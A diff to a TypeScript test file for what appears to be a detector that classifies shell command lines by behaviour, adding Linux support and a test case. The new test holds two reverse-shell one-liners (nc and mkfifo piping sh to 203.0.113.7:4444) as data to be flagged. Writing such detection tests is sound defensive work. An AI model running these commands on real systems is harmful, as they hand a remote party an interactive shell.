@@ -3,8 +3,8 @@ import { builtinCatalog } from "../catalog/load.ts";
 import { resolve } from "../invocations/resolve.ts";
 import { judge } from "./judge.ts";
 
-const judged = (commandLine: string) =>
-  judge(resolve({ commandLine, platform: "windows", as: "typed" }, builtinCatalog()))?.behaviour.id;
+const judged = (commandLine: string, platform: "windows" | "linux" = "windows") =>
+  judge(resolve({ commandLine, platform, as: "typed" }, builtinCatalog()))?.behaviour.id;
 
 describe("judge", () => {
   it.each([
@@ -41,6 +41,13 @@ describe("judge", () => {
   ])("tells of %s", (_, line, behaviour) => {
     expect(judged(line)).toBe(behaviour);
   });
+});
+
+it.each([
+  "nc 203.0.113.7 4444 </tmp/p | sh >/tmp/p 2>&1",
+  "mkfifo /tmp/p; cat /tmp/p | nohup sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/p",
+])("tells of the connection that a shell is joined to, and of no file: %s", (line) => {
+  expect(judged(line, "linux")).toBe("linux/sh/redirect-network");
 });
 
 it("judges a line that comes again once for each of its surroundings, however these are written", () => {
